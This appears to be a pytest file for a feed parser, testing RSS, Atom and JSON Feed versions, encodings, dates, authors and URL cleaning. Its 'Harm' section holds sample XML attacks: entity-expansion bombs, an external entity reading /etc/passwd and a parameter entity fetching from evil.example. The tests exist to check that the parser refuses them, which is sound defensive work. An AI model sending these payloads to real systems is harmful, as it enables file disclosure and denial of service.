"""Feeds of every kind and age, in every encoding, and those that are made to do harm."""

import json
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from collectors.feeds import Entry, Feed, read_entry, read_feed
from collectors.feeds.canonical import same_article, without_tracking
from collectors.feeds.parsing import parse
from listening.errors import UnreadableInput
from listening.posts import Media

NOW = datetime(2026, 11, 22, 12, 0, tzinfo=UTC)
AT = "https://blog.example/feed"
AFTER_NINE = datetime(2026, 11, 20, 9, 30, tzinfo=UTC)


def feed(document: str | bytes, kind: str = "application/xml") -> Feed:
    return read_feed(document if isinstance(document, bytes) else document.encode(), kind, AT)


def entries(document: str | bytes, kind: str = "application/xml") -> list[Entry]:
    return [read_entry(raw, NOW, AT) for raw in feed(document, kind).entries]


def rss_item(inside: str, spaces: str = "") -> Entry:
    [entry] = entries(f"<rss version='2.0' {spaces}><channel><title>t</title><item>{inside}</item></channel></rss>")
    return entry


RSS_091 = """<?xml version="1.0"?>
<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">
<rss version="0.91"><channel><title>Acorn</title><language>ro</language>
<item><title>Acme grows</title><link>https://acorn.example/1</link><description>Slowly.</description></item></channel></rss>"""
RSS_20 = """<rss version="2.0"><channel><title>Acorn</title><language>ro</language><item><title>Acme grows</title>
<link>https://acorn.example/1</link><guid isPermaLink="false">x1</guid><description>Slowly.</description>
<pubDate>Fri, 20 Nov 2026 11:30:00 +0200</pubDate></item></channel></rss>"""
RSS_10 = """<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"
 xmlns:dc="http://purl.org/dc/elements/1.1/"><channel rdf:about="https://acorn.example/"><title>Acorn</title>
<dc:language>ro</dc:language></channel><item rdf:about="https://acorn.example/1"><title>Acme grows</title>
<link>https://acorn.example/1</link><description>Slowly.</description><dc:date>2026-11-20T11:30:00+02:00</dc:date></item>
</rdf:RDF>"""
ATOM_10 = """<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="ro"><title>Acorn</title><entry>
<title>Acme grows</title><id>tag:acorn.example,2026:1</id><link href="https://acorn.example/1"/>
<published>2026-11-20T09:30:00Z</published><updated>2026-11-20T09:30:00Z</updated>
<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>Slowly.</p></div></content></entry></feed>"""
ATOM_03 = """<feed version="0.3" xmlns="http://purl.org/atom/ns#" xml:lang="ro"><title>Acorn</title><entry>
<title>Acme grows</title><id>x1</id><link rel="alternate" type="text/html" href="https://acorn.example/1"/>
<issued>2026-11-20T09:30:00Z</issued><modified>2026-11-20T09:30:00Z</modified>
<content type="text/html" mode="escaped">&lt;p&gt;Slowly.&lt;/p&gt;</content></entry></feed>"""
JSON_10 = json.dumps(
    {"version": "https://jsonfeed.org/version/1", "title": "Acorn", "language": "ro", "items": [
        {"id": 1, "url": "https://acorn.example/1", "title": "Acme grows", "content_html": "<p>Slowly.</p>",
         "date_published": "2026-11-20T11:30:00+02:00"}]}
)  # fmt: skip
JSON_11 = json.dumps(
    {"version": "https://jsonfeed.org/version/1.1", "title": "Acorn", "language": "ro-RO", "items": [
        {"id": "1", "url": "/1", "title": "Acme grows", "content_text": "Slowly.", "summary": "Sl",
         "date_published": "2026-11-20T09:30:00Z"}]}
)  # fmt: skip


@pytest.mark.parametrize("document", [RSS_091, RSS_20, RSS_10, ATOM_10, ATOM_03, JSON_10, JSON_11])
def test_every_kind_of_feed_says_the_same(document: str) -> None:
    read = feed(document)
    [entry] = entries(document)
    assert (read.title, read.language, read.whole) == ("Acorn", "ro", True)
    assert (entry.title, entry.text) == ("Acme grows", "Slowly.")
    assert entry.link in ("https://acorn.example/1", "https://blog.example/1")
    assert entry.published == (None if document is RSS_091 else AFTER_NINE)
    assert entry.updated is None


def test_a_feed_without_entries_is_a_feed() -> None:
    for document in (
        "<rss version='2.0'><channel/></rss>",
        "<feed xmlns='http://www.w3.org/2005/Atom'/>",
        '{"items":[]}',
    ):
        assert feed(document).entries == ()


@pytest.mark.parametrize(
    ("document", "why"),
    [
        ("", "empty"), (" \n", "empty"), ("\ufeff", "empty"),
        ("<!DOCTYPE html><html><body>Log in</body></html>", "web page"), ("<html>", "web page"),
        ("hello", "no feed"), ("<opml/>", "no feed"), ("{}", "no JSON Feed"), ("[1]", "no JSON Feed"),
        ('{"items": 1}', "no JSON Feed"), ('{"items": [', "cut short"), ("[" * 100_000, "cut short"),
        ("\0" * 999, "empty"), ("%PDF-1.7 ", "no feed"),
    ],
)  # fmt: skip
def test_what_is_no_feed_is_told(document: str, why: str) -> None:
    with pytest.raises(UnreadableInput, match=why):
        feed(document)


# Encodings

WORDS = "Angajații Acme sunt mulțumiți și „acasă”"


@pytest.mark.parametrize(
    ("words", "codec", "declared", "header"),
    [
        (WORDS, "utf-8", "", ""),
        (WORDS, "utf-8", "utf-8", "text/xml"),
        (WORDS, "utf-8", "iso-8859-1", "text/xml; charset=iso-8859-1"),  # both are wrong
        (WORDS, "utf-8-sig", "", ""),
        (WORDS, "utf-16", "utf-16", ""),
        (WORDS, "utf-16-le", "utf-16", ""),
        (WORDS, "utf-16-be", "", ""),
        (WORDS, "utf-32", "", ""),
        ("Сотрудники довольны своей работой", "cp1251", "windows-1251", ""),
        ("Сотрудники довольны своей работой", "cp1251", "", "text/xml; charset=windows-1251"),
        ("Сотрудники довольны своей работой", "cp1251", "", ""),  # declared nowhere
        ("Сотрудники довольны своей работой", "cp1251", "utf-8", "text/xml; charset=utf-8"),
        ("Сотрудники довольны", "koi8-r", "koi8-r", ""),
        ("העובדים מרוצים מאוד בעבודה", "cp1255", "windows-1255", ""),
        ("העובדים מרוצים מאוד בעבודה", "cp1255", "no-such-encoding", ""),
        ("Pracownicy są bardzo szczęśliwi", "iso-8859-2", "ISO-8859-2", ""),
        ("社員は満足している", "shift_jis", "Shift_JIS", ""),
        ("社員は満足している", "iso-2022-jp", "iso-2022-jp", ""),
        ("员工满意", "gb18030", "gb2312", ""),
        ("café “naïve”", "cp1252", "iso-8859-1", ""),
    ],
)
def test_any_encoding_declared_rightly_wrongly_or_not_at_all(
    words: str, codec: str, declared: str, header: str
) -> None:
    head = f'<?xml version="1.0" encoding="{declared}"?>' if declared else ""
    document = f"{head}<rss version='2.0'><channel><item><title>{words}</title></item></channel></rss>".encode(codec)
    [entry] = entries(document, header)
    assert entry.title == words


def test_signs_that_no_xml_may_hold_do_no_harm() -> None:
    assert rss_item("<title>a\x0bb\x00c &#8; &#1114112; &#xD800; d</title>").title.startswith("ab")  # type: ignore[union-attr]


# Harm


LAUGHS = """<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">
<!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">]>
<rss version="2.0"><channel><item><title>&lol2;</title></item></channel></rss>"""
QUADRATIC = (
    f'<!DOCTYPE x [<!ENTITY a "{"a" * 50_000}">]><rss version="2.0"><channel><item><title>{"&a;" * 50_000}</title>'
    "</item></channel></rss>"
)
OUTSIDE = """<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><rss version="2.0"><channel><item><title>&a;</title>
</item></channel></rss>"""
PARAMETER = """<!DOCTYPE x [<!ENTITY % a SYSTEM "http://evil.example/x.dtd"> %a;]><rss version="2.0"/>"""


@pytest.mark.parametrize("codec", ["utf-8", "utf-16"])
@pytest.mark.parametrize("bomb", [LAUGHS, QUADRATIC, OUTSIDE, PARAMETER])
def test_entities_that_grow_or_lead_elsewhere_are_refused(bomb: str, codec: str) -> None:
    with pytest.raises(UnreadableInput, match="entities"):
        feed(bomb.encode(codec))


def test_entities_for_signs_are_read_declared_or_not() -> None:
    bare = '<rss version="2.0"><channel><item><title>a&nbsp;b &euro; &nosuch;</title></item></channel></rss>'
    declared = '<!DOCTYPE rss [<!ENTITY nbsp "&#160;"><!ENTITY nosuch "!"><!ENTITY euro "E">]>' + bare
    assert [entry.title for entry in entries(declared)] == ["a b E !"]
    assert [entry.title for entry in entries(bare)] == ["a b € &nosuch;"]


@pytest.mark.parametrize("document", ["<rss><channel>" + "<item/>" * 999 + "</channel></rss>", "<rss>" + "<a>" * 999])
def test_a_document_of_too_many_elements_is_refused(document: str) -> None:
    with pytest.raises(UnreadableInput, match="more than 900 elements"):
        parse(document, AT, most_elements=900)


def test_a_document_of_too_many_brackets_is_refused() -> None:
    with pytest.raises(UnreadableInput, match="too large"):
        feed("<rss>" + "<" * 200_001)


@pytest.mark.parametrize(
    "inside",
    [
        f"<author>{'a.' * 40_000}</author>",
        f"<author>{'a@' * 40_000}</author>",
        f"<pubDate>{'1 ' * 40_000}</pubDate>",
        f"<pubDate>{'9' * 40_000}</pubDate>",
        f"<link>{'http:' * 20_000}</link>",
        f"<description>{'&lt;!--' * 6_000}</description>",
        f"<category>{'#' * 40_000}</category>",
        f"<guid>{'x' * 90_000}</guid>",
    ],
)
def test_long_nonsense_takes_no_time(inside: str) -> None:
    """With feedparser's own way of reading some of these take minutes, and the test would not end."""
    assert rss_item(f"<title>Acme</title>{inside}").title == "Acme"


def test_lines_before_the_first_element_take_no_time() -> None:
    assert entries("\n" * 200_000 + RSS_20)[0].title == "Acme grows"


@pytest.mark.parametrize("markup", ["<a b='" * 9_000, "<p>" * 70_000, "x" * 200_001])
def test_a_text_that_is_too_long_or_dense_is_refused_alone(markup: str) -> None:
    document = json.dumps({"items": [{"id": "1", "content_html": markup}, {"id": "2", "content_text": "Acme"}]})
    first, second = feed(document).entries
    with pytest.raises(UnreadableInput):
        read_entry(first, NOW, AT)
    assert read_entry(second, NOW, AT).text == "Acme"


# Broken, and read all the same


def test_a_feed_that_is_not_well_formed_is_read() -> None:
    broken = "<rss version='2.0'><channel><item><title>Acme & Co</title><link>https://a.example/?a=1&b=2</link></item></channel></rss>"
    read = feed(broken)
    assert read.whole
    entry = read_entry(read.entries[0], NOW, AT)
    assert (entry.title, entry.link) == ("Acme & Co", "https://a.example/?a=1&b=2")


def test_a_feed_that_breaks_off_says_so_and_keeps_what_came() -> None:
    items = "".join(f"<item><title>Acme {n}</title></item>" for n in range(9))
    read = feed(f"<rss version='2.0'><channel>{items}<item><title>Ac")
    assert not read.whole
    assert [read_entry(raw, NOW, AT).title for raw in read.entries] == [f"Acme {n}" for n in range(9)]


# Entries


def test_the_whole_text_counts_with_its_links_lines_and_pictures() -> None:
    entry = rss_item(
        "<title>Acme &amp;amp; us</title><link>/2026/acme</link><description>Teaser</description>"
        "<content:encoded><![CDATA[<!-- wp:paragraph --><img src='data:image/png;base64,aGVsbG8='>"
        "<p>First\n   line <a href='/x?a=1&amp;b=2'>there</a></p><ul><li>one</li><li>two</li></ul>"
        "<figure><img src=a.png alt='Two nurses'><figcaption>At work</figcaption></figure><pre>a\n  b</pre>"
        "<script>alert(1)</script>]]></content:encoded>",
        "xmlns:content='http://purl.org/rss/1.0/modules/content/'",
    )
    assert entry.title == "Acme & us"
    assert entry.text == ("First line there (https://blog.example/x?a=1&b=2)\n\n- one\n- two\n\nAt work\n\na\n  b")
    assert entry.links == ("https://blog.example/x?a=1&b=2",)
    assert entry.link == "https://blog.example/2026/acme"
    assert entry.media == (Media("image"), Media("image", "Two nurses"))


def test_media_are_described_once_each() -> None:
    entry = rss_item(
        "<title>Acme</title><enclosure url='https://a.example/1.mp3' type='audio/mpeg' length='1'/>"
        "<enclosure url='https://a.example/1.jpg' type='image/jpeg' length='1'/>"
        "<media:content url='https://a.example/1.jpg' medium='image'><media:description>A clinic</media:description>"
        "</media:content><description>Text</description>",
        "xmlns:media='http://search.yahoo.com/mrss/'",
    )
    assert entry.media == (Media("image", "A clinic"), Media("audio"))
    assert entry.text == "Text"


@pytest.mark.parametrize(
    ("written", "author", "email"),
    [
        ("<author>ana@acorn.example (Ana Pop)</author>", "Ana Pop", "ana@acorn.example"),
        ("<author>ana@acorn.example</author>", None, "ana@acorn.example"),
        ("<dc:creator>Ana Pop</dc:creator>", "Ana Pop", None),
        ("<author>Ana Pop</author>", "Ana Pop", None),
        ("<dc:creator><![CDATA[ Ana  Pop ]]></dc:creator>", "Ana Pop", None),
        ("<author/>", None, None),
        ("", None, None),
    ],
)
def test_authors_are_as_given(written: str, author: str | None, email: str | None) -> None:
    entry = rss_item(f"<title>t</title>{written}", "xmlns:dc='http://purl.org/dc/elements/1.1/'")
    assert (entry.author, entry.email) == (author, email)


def test_an_atom_author_has_a_page_and_stands_for_entries_without_one() -> None:
    first, second = entries(
        "<feed xmlns='http://www.w3.org/2005/Atom'><author><name>Desk</name></author><entry><title>a</title><author>"
        "<name>Ana Pop</name><email>ana@a.example</email><uri>https://a.example/ana</uri></author></entry>"
        "<entry><title>b</title></entry></feed>"
    )
    assert (first.author, first.email, first.profile) == ("Ana Pop", "ana@a.example", "https://a.example/ana")
    assert (second.author, second.email) == ("Desk", None)


@pytest.mark.parametrize(
    "written",
    [
        "Fri, 20 Nov 2026 09:30:00 GMT", "Fri, 20 Nov 2026 11:30:00 +0200", "20 Nov 2026 09:30 UT",
        "Fri, 20 Nov 2026 04:30:00 EST", "2026-11-20T09:30:00Z", "2026-11-20T11:30:00+02:00", "2026-11-20 09:30:00",
        "2026-11-20T09:30Z", "1795167000", "Fri Nov 20 09:30:00 2026", "20.11.2026 09:30", "2026/11/20 09:30",
        "Παρ, 20 Νοε 2026 09:30:00 GMT", "20 november 2026 09:30:00 GMT",
    ],
)  # fmt: skip
def test_dates_in_every_form(written: str) -> None:
    assert rss_item(f"<title>t</title><pubDate>{written}</pubDate>").published == AFTER_NINE


@pytest.mark.parametrize(
    "written", ["", "yesterday", "1970-01-01T00:00:00Z", "2199-01-01T00:00:00Z", "0", "99:99", "-1"]
)
def test_a_date_that_cannot_be_is_none(written: str) -> None:
    assert rss_item(f"<title>t</title><pubDate>{written}</pubDate>").published is None


def test_fractions_of_a_second_are_kept() -> None:
    entry = rss_item("<title>t</title><pubDate>2026-11-20T09:30:00.123456Z</pubDate>")
    assert entry.published == AFTER_NINE + timedelta(microseconds=123456)


def test_an_update_is_an_edit_only_if_it_came_later() -> None:
    def updated(when: str, published: str = "<pubDate>2026-11-20T09:30:00Z</pubDate>") -> Entry:
        return rss_item(
            f"<title>t</title>{published}<atom:updated>{when}</atom:updated>",
            "xmlns:atom='http://www.w3.org/2005/Atom'",
        )

    later = updated("2026-11-21T09:30:00Z")
    assert (later.published, later.updated) == (AFTER_NINE, AFTER_NINE + timedelta(days=1))
    assert updated("2026-11-20T09:30:00Z").updated is None
    assert updated("2026-11-19T09:30:00Z").updated is None
    alone = updated("2026-11-20T09:30:00Z", "")
    assert (alone.published, alone.updated) == (AFTER_NINE, None)


def test_tags_are_those_with_a_sign_and_replies_are_counted() -> None:
    entry = rss_item(
        "<title>t</title><category>#LifeAtAcme</category><category>Business</category><slash:comments>12</slash:comments>",
        "xmlns:slash='http://purl.org/rss/1.0/modules/slash/'",
    )
    assert (entry.tags, entry.replies) == (("LifeAtAcme",), 12)
    assert rss_item("<title>t</title>").replies is None


def test_an_outlet_is_told_where_a_feed_passes_on() -> None:
    entry = rss_item("<title>t</title><source url='https://acorn.example/feed'>The Acorn</source>")
    assert (entry.outlet, entry.outlet_address) == ("The Acorn", "https://acorn.example/feed")


@pytest.mark.parametrize(
    "raw", [None, 1, "x", [], {"item": 3}, {"title": 5}, {"texts": "x"}, {"texts": [{"value": ""}]}, {}]
)
def test_what_is_no_entry_is_told(raw: Any) -> None:
    with pytest.raises(UnreadableInput, match=r"\w+ \w+"):
        read_entry(raw, NOW, AT)


@pytest.mark.parametrize(
    ("address", "clean"),
    [
        ("https://a.example/x?utm_source=rss&utm_medium=feed", "https://a.example/x"),
        ("https://a.example/x?id=7&utm_source=rss#c2", "https://a.example/x?id=7#c2"),
        ("https://a.example/x?fbclid=1&gclid=2&mc_cid=3&q=%C8%99", "https://a.example/x?q=%C8%99"),
        ("https://a.example/x?q=a+b&&=", "https://a.example/x?q=a+b&&="),
        ("https://a.example/utm_source=1", "https://a.example/utm_source=1"),
        ("https://a.example/x?flag", "https://a.example/x?flag"),
        ("http://[", "http://["),
    ],
)
def test_an_address_loses_what_says_who_clicked(address: str, clean: str) -> None:
    assert without_tracking(address) == clean


def test_one_article_has_one_address() -> None:
    ways = (
        "http://www.a.example/x/",
        "https://a.example/x?utm_source=a",
        "https://A.example:443/x",
        " https://a.example/x",
    )
    assert {same_article(way) for way in ways} == {"a.example/x"}
    assert same_article("https://a.example/x?id=1") != same_article("https://a.example/x?id=2")
    assert same_article("https://a.example:8443/x") != same_article("https://a.example/x")
